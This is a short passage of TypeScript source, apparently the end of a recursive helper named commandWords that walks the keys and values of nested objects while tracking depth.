  else if (v && typeof v === 'object') for (const k in v) commandWords((v as Record<string, unknown>)[k], k, out, depth + 1);
}
